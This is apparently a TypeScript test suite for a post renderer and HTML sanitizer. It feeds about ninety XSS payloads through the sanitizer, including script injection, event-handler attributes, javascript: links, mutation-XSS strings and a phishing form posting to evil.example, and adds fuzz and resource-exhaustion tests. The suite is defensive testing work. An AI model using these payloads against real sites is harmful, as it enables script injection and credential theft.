import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { clean } from '../../lib/html.ts'
import { limits } from '../limits.ts'
import { countCharacters } from './count-characters.ts'
import { findMentions } from './find-mentions.ts'
import { type Known, renderWords } from './render-words.ts'
import { tidyName, tidyText } from './tidy.ts'

const everybody: Known = {
  person: (handle, server) => ({ href: server ? `https://${server}/@${handle}` : `/@${handle}`, name: '"><b onx=1>' }),
  emoji: (code) => ({ src: `/emoji/${code}` }),
}

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img class=emoji src=x onerror=alert(1)>',
  '<img class="emoji" src="/emoji/a" onload="alert(1)" style="position:fixed">',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img srcset="x 1x" src=/emoji/a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0" id="login" class="page">x</div>',
  '<p onclick=alert(1)//x>y</p>',
  '<p/onmouseover=alert(1)>x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://a.example" onclick="alert(1)" target="_top" ping="//evil.example">x</a>',
  '<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x onclick=alert(1)>x',
  '<%00script>alert(1)</%00script>',
  '\u0000<\u0000script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert%281%29)',
  '[x](java&#115;cript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](x)',
  '[x]: javascript:alert(1)\n[x]',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick=alert(1)>',
  'https://a.example/"onmouseover="alert(1)',
  "https://a.example/'onmouseover='alert(1)",
  'https://a.example/<script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '- <script>\n- alert(1)\n- </script>',
  '> <script>\n> alert(1)\n> </script>',
  '@bo"onclick="alert(1)',
  '#tag"onclick="alert(1)',
  ':blob"onerror="alert(1):',
  '**<b onclick=alert(1)>**',
]

const goodTag =
  /<\/?(?:p|br|a|span|strong|em|del|code|pre|blockquote|ul|ol|li|ruby|rt|rp|img)(?: (?:href|rel|src|alt|title|class|dir|start)="[^"<>]*")*(?: \/)?>/g

/** Every tag and attribute is on the list, nothing else looks like a tag, and every address is one we allow. */
function assertHarmless(html: string, about: string): void {
  assert.doesNotMatch(html.replace(goodTag, ''), /[<>]/, about)
  for (const [, name, value = ''] of (html.match(goodTag) ?? []).join('').matchAll(/ (href|src|class)="([^"]*)"/g)) {
    if (name === 'href') assert.match(value, /^(?:https?:\/\/|mailto:|\/(?![/\\]))/, about)
    if (name === 'src') assert.match(value, /^\/emoji\/\w/, about)
    if (name === 'class') assert.match(value, /^(?:mention|hashtag|emoji)$/, about)
  }
}

function deepest(html: string, tag: RegExp): number {
  let depth = 0
  const depths = [...html.matchAll(tag)].map(([found]) => (found.startsWith('</') ? depth-- : ++depth))
  return Math.max(0, ...depths)
}

test('nobody can make the page of a friend do anything', () => {
  assert.ok(payloads.length >= 40)
  for (const payload of payloads) {
    assertHarmless(renderWords(payload, everybody).html, payload)
    assertHarmless(clean(payload), payload)
    assertHarmless(clean(`<p>a</p><ul><li>${payload}`), payload)
  }
})

test('whatever Ada types or pastes is harmless and reads the same when it is cleaned again', () => {
  const sign = fc.constantFrom(
    ...'* ** _ ~~ ` ``` [ ]( ) ! > - 1. # @bo @ana@elsewhere.example #plum :blob: \n < & " \' \\ a'.split(' '),
  )
  const text = fc.oneof(
    fc
      .array(fc.oneof(sign, fc.constantFrom(...payloads)), { maxLength: 40, size: 'max' })
      .map((parts) => parts.join('')),
    fc.array(sign, { maxLength: 200, size: 'max' }).map((parts) => parts.join(' ')),
    fc.string({ unit: 'binary', maxLength: 300, size: 'max' }),
  )
  fc.assert(
    fc.property(text, (typed) => {
      const { html } = renderWords(typed, everybody)
      assertHarmless(html, typed)
      assert.equal(clean(html), html)
    }),
    { numRuns: 300 },
  )
})

const pumped: [unit: string, ending?: string][] = [
  ...['>', '> ', '>\n', '> a\nb\n', '> - ', '- > ', '> 1. ', '- ', '- a\n  ', '- [ ]\n', '1. ', '1. a\n', '* * '],
  ...['*', '**', '***', '*a', '**a*', '*a[*', '_', '_a', '_*a', '__a_', '~', '~~a', '**_~~[', '.*1\n*', ']**a'],
  ...['[', '[[', '[a](', '[a](b', '![', '![a](', '[](', '[a](https://a.example)', '[a]: ', '](', '['],
  ...['`', '``a`', '```\n', '\\', '\\*', '<', '<b>', '<a ', '<!--', '<?', '</b', '&', '&#', '&#60;'],
  ...[
    '@',
    '@a',
    '@a ',
    '@a@',
    '@a@b.c ',
    '@a.',
    '#',
    '#a ',
    '#1',
    '#\ufdfa ',
    ':',
    ':a',
    ':a:',
    'https://',
    'https://a.example/)',
  ],
  ...[
    'a',
    ' ',
    '\t',
    '\n',
    '  \n',
    '|a|\n|-|\n',
    'a\n=\n',
    '\u200b',
    '\u200d',
    '\u202e',
    '\u2066',
    'e\u0301',
    '\u0315\u0300',
    '👩‍👩‍👧',
    'ש',
  ],
].flatMap((unit): [string, string?][] => [[unit], [unit, 'a*'], [unit, ')]`>']])

test('a text made to keep the machine busy is read like any other', () => {
  for (const [unit, ending = ''] of pumped) {
    const text = unit.repeat(limits.post.text).slice(0, limits.post.text - ending.length) + ending
    const { html, plain } = renderWords(text, everybody)
    assertHarmless(html, unit)
    // The widest are hundreds of tags of one letter that is written as a phrase.
    assert.ok(html.length < 60 * limits.post.text, `${unit}: ${html.length}`)
    assert.ok(plain.length <= 2 * text.length, unit)
    assert.ok(findMentions(text).length <= text.length / 2, unit)
    assert.ok(countCharacters(text) > 0, unit)
    assert.ok(tidyText(text).length <= 2 * text.length, unit)
    assert.ok(tidyName(text).length <= 2 * text.length, unit)
  }
})

test('quotes in quotes and lists in lists end at a depth that fits on a phone, and the words stay', () => {
  for (const unit of ['>', '> ', '- ', '> - ', '1. ']) {
    const { html, plain } = renderWords(`${unit.repeat(100)}plums`, everybody)
    assert.equal(deepest(html, /<\/?(?:blockquote|li)\b/g), limits.post.depth, unit)
    assert.match(plain, /plums$/)
  }
  const nested = ['*', '**', '~~'].flatMap((sign) => [sign, sign, sign, sign])
  const { html } = renderWords(
    nested.reduce((inner, sign) => `${sign}a ${inner} a${sign}`, 'plums'),
    everybody,
  )
  assert.equal(deepest(html, /<\/?(?:em|strong|del)>/g), limits.post.depth)
})

test('a list inside a quote with an answer below it is read', () => {
  const shown = renderWords('> > a\n> - b\nc\n> 2. d\n- x\n> - y\nz', everybody)
  assertHarmless(shown.html, 'quotes')
  assert.equal(shown.plain.replace(/\n+/g, ' '), 'a b c d x y z')
})
